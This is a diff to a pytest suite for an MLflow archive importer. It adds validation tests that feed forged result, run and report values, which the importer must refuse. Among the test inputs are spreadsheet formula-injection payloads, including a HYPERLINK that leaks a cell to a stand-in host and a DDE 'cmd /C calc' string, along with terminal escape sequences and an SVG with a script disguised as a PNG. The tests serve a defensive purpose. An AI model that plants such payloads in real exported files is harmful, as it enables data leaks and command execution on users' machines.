@@ -141,12 +141,17 @@ def imported(tmp_path_factory, node):
 @pytest.fixture
 def home(tmp_path, imported):
     """A copy of that store for one test, its artifact paths pointing into the copy."""
-    folder = tmp_path / "home"
-    shutil.copytree(imported, folder)
+    return copy_store(imported, tmp_path / "home")
+
+
+def copy_store(source: Path, folder: Path) -> Path:
+    """A copy of the store in ``source``, its artifact paths pointing into the copy (an import into
+    it must never write into the original)."""
+    shutil.copytree(source, folder)
     with sqlite3.connect(folder / "mlflow.db") as db:
         db.execute("UPDATE experiments SET artifact_location = replace(artifact_location, ?, ?)",
-                   (str(imported), str(folder)))
-        db.execute("UPDATE runs SET artifact_uri = replace(artifact_uri, ?, ?)", (str(imported), str(folder)))
+                   (str(source), str(folder)))
+        db.execute("UPDATE runs SET artifact_uri = replace(artifact_uri, ?, ?)", (str(source), str(folder)))
     return folder
 
 
@@ -678,7 +683,7 @@ def _new_ids(sql: str = ""):
     """An edit and SQL that give every run of the node a new id (its artifact folders with it), so
     that the runs are new to a store that holds the node's own: ``variant(node, tmp, *_new_ids())``."""
     def edit(folder):
-        for path in folder.glob("mlruns/*/*"):
+        for path in list(folder.glob("mlruns/*/*")):  # listed first: a renamed folder is not visited again
             if len(path.name) == 32:
                 path.rename(path.with_name(path.name[1:] + "f"))
     renamed = "".join(f"UPDATE {t} SET run_uuid = substr(run_uuid, 2) || 'f';" for t in TABLES[1:])
@@ -706,6 +711,8 @@ FORGED = {  # a result.json value that no training can produce, and what the ref
     "formula in torch": (_set(("env", "torch"), '=HYPERLINK("http://x?leak="&A1,"torch")'), "env.torch"),
     "formula in commit": (_set(("env", "git_commit"), "@SUM(1+1)*cmd|' /C calc'!A0"), "env.git_commit"),
     "escape in device": (_set(("env", "device"), "cpu\x1b]0;owned\x07"), "env: expected names to printable"),
+    "no test images": (_set(("eval_examples",), 0), "eval_examples: expected an integer >= 1 (got 0)"),
+    "zero images/s": (_set(("epochs", 0, "examples_per_s"), 0), "examples_per_s: expected a speed > 0"),
 }
 
 
@@ -732,8 +739,7 @@ def test_imported_runs_of_a_key_the_store_holds_never_shadow_its_own(node, tmp_p
     """The home store is the node's own store (its runs local, not imported). The archive brings the
     same runs again under new ids, dated a day later, with a better test accuracy: every lookup
     the suite makes (its run key, its newest suite run) still finds the local run."""
-    home = tmp_path / "home"
-    shutil.copytree(node, home)
+    home = copy_store(node, tmp_path / "home")
     later = "UPDATE runs SET start_time = start_time + 86400000, end_time = end_time + 86400000;"
     sql, edit = _new_ids(later)
 
@@ -765,6 +771,8 @@ ROWS_OF_MEANING = {  # SQL on the node's store, and what the refusal names
     "parent outside": ("UPDATE tags SET value = '{local}' WHERE run_uuid = '{run}' AND key = 'mlflow.parentRunId';",
                        "links to '{local}', which is not a run of the archive"),
     "import tag": ("INSERT INTO tags VALUES ('import.time', '0', '{run}');", "is the import's own"),
+    "latest value never logged": ("INSERT INTO latest_metrics VALUES ('ghost', 1.0, 5, 0, 0, '{run}');",
+                                  "has a latest value of metric 'ghost', which it never logged"),
     "metric logged 40 times": (
         "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 40) INSERT INTO metrics "
         "SELECT 'train_loss', 1.0, 1000 + i, '{run}', 1, 0 FROM n;", "is logged 4"),
@@ -801,6 +809,8 @@ def _claim_run(node: Path) -> str:
     ("local run id", [{"arm": "relu", "seed": 0, "lr": 0.01, "run_id": "a" * 32}], "is not a run of this archive"),
     ("escape in arm", [{"arm": "relu\x1b]0;x\x07", "seed": 0, "lr": 0.01, "run_id": "{arm}"}], "runs: expected"),
     ("formula arm", [{"arm": "=1+1", "seed": 0, "lr": 0.01, "run_id": "{arm}"}], "not starting like a formula"),
+    ("infinite lr", [{"arm": "relu", "seed": 0, "lr": float("-inf"), "run_id": "{arm}"}], "lr (finite, > 0)"),
+    ("repeated run", [{"arm": "relu", "seed": 0, "lr": 0.01, "run_id": "{arm}"}] * 2, "runs: a run_id repeats"),
 ])
 def test_a_verdict_whose_runs_are_not_the_archives_or_whose_text_is_not_printable_is_refused(
         node, tmp_path, case, runs, expected, refused):
@@ -849,3 +859,43 @@ def test_an_import_while_a_suite_writes_its_reports_is_refused_and_the_reports_a
            error=err.strip().splitlines()[0] if err.strip() else "", outside_bytes=0, store_changed=imported == 0)
     assert status == 0 and imported == 2 and "a suite is running on" in err
     assert "node report" not in (home / "results" / "smoke" / "cpu" / "claims.md").read_text()
+
+
+def test_a_stub_row_of_a_local_run_cannot_carry_links_into_it(node, tmp_path, capsys, refused):
+    """The archive holds a copy of a local run's row (skipped as already present) so that its new
+    claim run may name that run as its parent: a new run may link only to the archive's new runs or
+    to ones an earlier import brought, never to a local one."""
+    home = copy_store(node, tmp_path / "home")  # the node's store, its runs local
+    claim = _claim_run(node)
+    sql, edit = _new_ids()
+    moved = variant(node, tmp_path, sql, edit)  # every run new, except the stub below: the local claim run's id
+    with sqlite3.connect(moved / "mlflow.db") as db:
+        new_claim = db.execute("SELECT run_uuid FROM tags WHERE key = 'kind' AND value = 'claim'").fetchone()[0]
+        db.execute("INSERT INTO runs SELECT ?, name, source_type, source_name, entry_point_name, user_id, status, "
+                   "start_time, end_time, source_version, lifecycle_stage, artifact_uri, experiment_id, deleted_time "
+                   "FROM runs WHERE run_uuid = ?", (claim, new_claim))
+        db.execute("UPDATE tags SET value = ? WHERE key = 'mlflow.parentRunId' AND run_uuid = ?",
+                   (claim, one_run(moved)))
+    refused(home, pack(moved, tmp_path / "stub.tar.gz"), f"names run {claim} (as its parent or in its verdict), "
+                                                         "which is a run of the local store")
+
+
+def test_a_report_whose_content_is_not_its_kind_is_refused(home, node, tmp_path, refused):
+    for name, data, expected in (("claims.csv", b'arm\r\n=HYPERLINK("http://x?a="&A1)\r\n', "like a spreadsheet"),
+                                 ("plot.png", b"<svg><script/></svg>", "is not a PNG image"),
+                                 ("bench.json", b"{not json", "is not JSON")):
+        refused(home, pack(node, tmp_path / f"{name}.tar.gz", [(member(f"results/full/gpu/{name}", size=len(data)),
+                                                                 data)]), expected)
+
+
+def test_runs_on_an_incomplete_suite_is_one_line(tmp_path, node, capsys):
+    """A genuine archive's suite run (the fixture's has no scale tag) imported into an empty store
+    becomes the default of ``python -m ablations runs``: one line naming it, not a traceback."""
+    home = tmp_path / "fresh"
+    home.mkdir()
+    status, _, err = run_import(home, pack(node, tmp_path / "a.tar.gz"), capsys)
+    assert status == 0, err
+    assert main(["runs", "--tracking-uri", f"sqlite:///{home}/mlflow.db"]) == 2
+    err = capsys.readouterr().err
+    assert "is incomplete (KeyError 'scale'): pass another --suite-run" in " ".join(err.split())
+    assert "Traceback" not in err
